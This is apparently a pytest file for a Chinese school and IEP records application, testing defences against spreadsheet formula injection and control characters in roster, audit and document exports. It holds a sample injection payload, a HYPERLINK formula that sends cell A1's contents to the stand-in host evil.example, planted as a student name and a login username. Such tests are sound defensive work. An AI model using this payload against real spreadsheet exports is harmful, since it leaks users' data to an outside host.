"""Spreadsheet formula injection and control characters (SEC-5, SEC-3): every exported cell that starts with
= + - @ tab or CR is text; control characters are refused on input and stripped from stored data on export."""

import io
from datetime import date

import docx
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from suiban.core import audit
from suiban.core.errors import DomainError
from suiban.core.idnumbers import make_id_number
from suiban.core.xlsx import safe_cell
from suiban.iep.models import Goal, Plan
from suiban.students.models import Guardian, Student

HC_S1 = "3502050101"
EXPORT_URL = "/api/v1/students/export.xlsx"
INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def cells(content: bytes):
    wb = load_workbook(io.BytesIO(content))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def test_safe_cell_writes_formula_like_text_as_text():
    """SEC-5: = + - @ tab CR at the start make the value text; numbers, dates and ordinary text unchanged."""
    for bad in ("=1+1", "+86 138", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(bad).startswith("'"), bad
    assert safe_cell("张三") == "张三" and safe_cell(3) == 3 and safe_cell(date(2020, 1, 1)) == date(2020, 1, 1)
    assert safe_cell("李\x00四\x1b") == "李四"


def test_roster_export_writes_no_formula_and_survives_control_characters(world, api_client):
    """SEC-5 attack: a student named =HYPERLINK(…) and a guardian phone +… became live formulas in the roster;
    a name with a control character (stored before they were refused) made the whole export answer 500. Now
    every cell is a plain value and the control character is dropped."""
    s = Student.objects.filter(school__code=HC_S1, status="active").order_by("pk").first()
    Student.objects.filter(pk=s.pk).update(name=INJECTION)
    other = Student.objects.filter(school__code=HC_S1, status="active").exclude(pk=s.pk).order_by("pk").first()
    Student.objects.filter(pk=other.pk).update(name="王\x07小\x1b明\x0c")
    Guardian.objects.filter(student=s).delete()
    Guardian.objects.create(student=s, name="@家长", relation="-母亲", phone="+86-138")
    r = api_client("hc_s1_leader").get(EXPORT_URL)
    assert r.status_code == 200, r.content
    values = []
    for c in cells(r.content):
        assert c.data_type != "f", (c.coordinate, c.value)
        values.append(c.value)
    assert "'" + INJECTION in values and "王小明" in values
    assert "'@家长（-母亲）" in values and "'+86-138" in values


def test_audit_export_keeps_a_hostile_username_as_text(world, user_client):
    """SEC-3 / SEC-5 attack: an anonymous failed login with the username =HYPERLINK(…) landed as a live formula
    in the auditor's spreadsheet, and a username with a control character made the export 500."""
    audit.record(None, "accounts.login.failed", object_type="user", object_id="", object_repr=INJECTION,
                 result="failure", username=INJECTION)
    audit.record(None, "accounts.login.failed", object_type="user", object_id="", object_repr="x",
                 result="failure", username="admin\x00\x1b[31m")
    r = user_client("auditor").get("/audit/export.xlsx")
    assert r.status_code == 200
    values = []
    for c in cells(r.content):
        assert c.data_type != "f", (c.coordinate, c.value)
        values.append(c.value)
    assert "'" + INJECTION in values and "admin[31m" in values


def test_control_characters_are_refused_on_input_field_by_field(world, api_client):
    """SEC-5: a name, a guardian, the family situation with a control character are refused with a Chinese
    message naming the field (422); line breaks in multi-line text stay allowed."""
    birth = date(2017, 3, 15)
    idn = make_id_number("350206", birth, 977, "female")
    school = world.schools[HC_S1]
    body = {"name": "张\x07三", "gender": "female", "birth_date": birth.isoformat(), "id_number": idn,
            "student_number": "G" + idn, "school_id": school.pk, "grade": 3, "disability_category": "intellectual",
            "family_situation": "第一行\n第二行\x1b", "guardians": [{"name": "刘\x00芳", "relation": "母亲"}]}
    client = api_client("hc_s1_resource")
    r = client.post("/api/v1/students", {**body, "name": "张三", "family_situation": ""})
    assert r.status_code == 422, r.content
    fields = {e["field"]: e["message"] for e in r.json()["errors"]}
    assert "guardians[0].name" in fields and "控制字符" in fields["guardians[0].name"]
    body["guardians"] = [{"name": "刘芳", "relation": "母亲"}]
    r = client.post("/api/v1/students", body)
    assert r.status_code == 422
    fields = {e["field"]: e["message"] for e in r.json()["errors"]}
    assert set(fields) >= {"name", "family_situation"} and "控制字符" in fields["name"]
    assert "家庭情况" in fields["family_situation"]
    body.update(name="张三", family_situation="第一行\n第二行\t完")
    assert client.post("/api/v1/students", body).status_code == 201


def test_control_characters_in_a_goal_are_refused_and_stripped_from_the_iep_document(world, user_client):
    """SEC-5 attack: a goal holding a control character made the IEP .docx answer 500. Stored goals are written
    without it; a new one is refused (422 on the field)."""
    from suiban.iep import services as iep_services

    plan = Plan.objects.filter(goals__isnull=False, school__code=HC_S1).distinct().order_by("pk").first()
    goal = plan.goals.order_by("pk").first()
    Goal.objects.filter(pk=goal.pk).update(target_behaviour="能独立\x0b完成\x07作业")
    Student.objects.filter(pk=plan.student_id).update(name="林\x1b一")
    r = user_client("hc_s1_leader").get(f"/iep/{plan.pk}/document.docx")
    assert r.status_code == 200
    text = "\n".join(p.text for p in docx.Document(io.BytesIO(r.content)).paragraphs)
    assert "林一" in text
    draft = Plan.objects.filter(state="draft", goals__isnull=False, school__code=HC_S1).order_by("pk").first()
    assert draft is not None  # the demo's draft plan of the first school
    g = draft.goals.order_by("pk").first()
    with pytest.raises(DomainError) as refused:
        iep_services.goal_update(actor=world.users["hc_s1_resource"], goal=g, version=g.version,
                                 target_behaviour="读\x07书")
    assert refused.value.errors[0]["field"] == "target_behaviour"


def test_roster_import_refuses_control_characters_per_cell(world, api_client):
    """SEC-5: an imported name with a control character is reported on its row and column; nothing imported."""
    headers = ["姓名", "性别", "出生日期", "全国学籍号", "学校标识码", "年级", "残疾类别"]
    wb = Workbook()
    ws = wb.active
    ws.append(headers)
    # An .xlsx cannot hold C0 control characters (XML); a tab or a C1 control character it can.
    ws.append(["赵\t六", "男", date(2018, 3, 4), "L350205201803040077", HC_S1, 1, "智力"])
    ws.append(["钱\x85七", "男", date(2018, 3, 4), "L350205201803040078", HC_S1, 1, "智力"])
    buf = io.BytesIO()
    wb.save(buf)
    r = api_client("hc_s1_leader").client.post(
        "/api/v1/students/import", {"file": SimpleUploadedFile("s.xlsx", buf.getvalue())},
        HTTP_AUTHORIZATION=api_client("hc_s1_leader").headers["HTTP_AUTHORIZATION"])
    assert r.status_code == 422, r.content
    errs = r.json()["errors"]
    for row in (2, 3):
        assert any(e["row"] == row and e["column"] == "姓名" and "控制字符" in e["message"] for e in errs), errs


def test_a_username_with_control_characters_is_refused(world):
    """SEC-5: a new account named with a control character is refused on the username field (core validate)."""
    from suiban.accounts.services import user_create

    with pytest.raises(DomainError) as refused:
        user_create(actor=world.users["secadmin"], username="ad\x1bmin2", full_name="测试", password="Matrix-pass-2026")
    assert refused.value.errors[0]["field"] == "username" and "控制字符" in refused.value.errors[0]["message"]
